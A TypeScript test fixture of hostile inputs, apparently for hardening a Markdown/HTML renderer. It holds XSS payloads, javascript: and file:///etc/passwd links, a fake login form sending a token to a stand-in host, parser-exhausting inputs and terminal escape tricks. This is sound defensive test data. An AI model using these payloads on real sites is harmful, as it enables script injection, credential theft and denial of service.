/** Sixty texts that would like to be more than texts. What runs of them sets `globalThis.hacked`. */

const RUN = 'globalThis.hacked=1'
const ELSEWHERE = 'http://elsewhere.invalid'
const ESC = '\u001B'

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}/x.js"></script>`,
  `</textarea></style></script><script>${RUN}</script>`,
  `<svg onload="${RUN}"><circle r="9"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><foreignObject><body onload="${RUN}"/></foreignObject></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><use href="${ELSEWHERE}/x.svg#a"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<img src="x" onerror="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
  `<style>@import url(${ELSEWHERE}/x.css); body { display: none }</style>`,
  `<p style="position:fixed;inset:0;background:url(${ELSEWHERE}/x.png)">over everything</p>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css"><link rel="prefetch" href="${ELSEWHERE}/y">`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `<!-- --!><script>${RUN}</script> -->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
]

const LINKS = [
  `[a link](javascript:${RUN})`,
  `[a link](JaVaScRiPt:${RUN})`,
  `[a link](java\u0000script:${RUN})`,
  `[a link](&#106;avascript:${RUN})`,
  `[a link](data:text/html,<script>${RUN}</script>)`,
  `[a link](vbscript:msgbox(1))`,
  `[a link](file:///etc/passwd) <file:///etc/passwd>`,
  `<javascript:${RUN}>`,
  `[a link](blob:null/x) [another](//elsewhere.invalid/x)`,
  `[a link]("onclick=${RUN}//) [title](http://x "\\" onmouseover=\\"${RUN}")`,
  `<a href="javascript:${RUN}" id="root" name="hacked">x</a>`,
  `[x]: javascript:${RUN}\n\n[x] and ![x]`,
]

const PICTURES = [
  `![a picture](${ELSEWHERE}/x.png)`,
  `![a picture](${ELSEWHERE}/x.png "title") ![](data:image/svg+xml,<svg onload=${RUN}>)`,
  `<img src="${ELSEWHERE}/x.png"><video src="${ELSEWHERE}/x.mp4" autoplay></video>`,
  `<picture><source srcset="${ELSEWHERE}/x.png"><img></picture><audio src="${ELSEWHERE}/x">`,
  `[![x](${ELSEWHERE}/x.png)](${ELSEWHERE}/y)`,
]

const FORMS = [
  `<form action="${ELSEWHERE}/take"><input name="token"><button>Log in again</button></form>`,
  `<button formaction="javascript:${RUN}">x</button><input type="image" src="${ELSEWHERE}/x.png">`,
  `- [ ] <input type="password" autofocus> your token\n- [x] <select><option>x</select>`,
  `<dialog open>Your session has ended. <a href="${ELSEWHERE}">Log in</a></dialog>`,
]

const WIDE = `| ${Array.from({ length: 120 }, (_, column) => `column ${column}`).join(' | ')} |`

const LARGE = [
  `${WIDE}\n|${' --- |'.repeat(120)}\n${`${WIDE}\n`.repeat(40)}`,
  'W'.repeat(20_000),
  `${'>'.repeat(5000)} deep`,
  `${'- '.repeat(2000)}deep`,
  `${'*'.repeat(8000)}x${'_'.repeat(8000)}`,
  `${'['.repeat(8000)}x${']('.repeat(8000)}`,
  `${'<b>'.repeat(5000)}x`,
  `${'a'.repeat(200)}://${'b'.repeat(5000)}?${'&c=d'.repeat(500)}`,
]

const SIGNS = [
  '\u202Eevil.exe\u202C \u2066and\u2069 \u200Fback\u200E \u061C',
  'Z\u0351\u0327\u0310'.repeat(2000),
  `${ESC}[2J${ESC}[H${ESC}]0;a name\u0007${ESC}[?1049h${ESC}[31mred${ESC}[0m ${ESC}]8;;javascript:${RUN}\u0007link${ESC}]8;;\u0007`,
  Array.from({ length: 6000 }, (_, index) => `${ESC}[3${index % 8};4${(index + 3) % 8}mx`).join(''),
  `${ESC}[${'9'.repeat(4000)}m${ESC}[38;5;999999mx${ESC}[`,
  `one\rtwo\r\n${'\b'.repeat(500)}three\u000B\u000C\u0085\u2028\u2029four`,
]

export const HOSTILE_TEXTS: readonly string[] = [...SCRIPTS, ...LINKS, ...PICTURES, ...FORMS, ...LARGE, ...SIGNS]
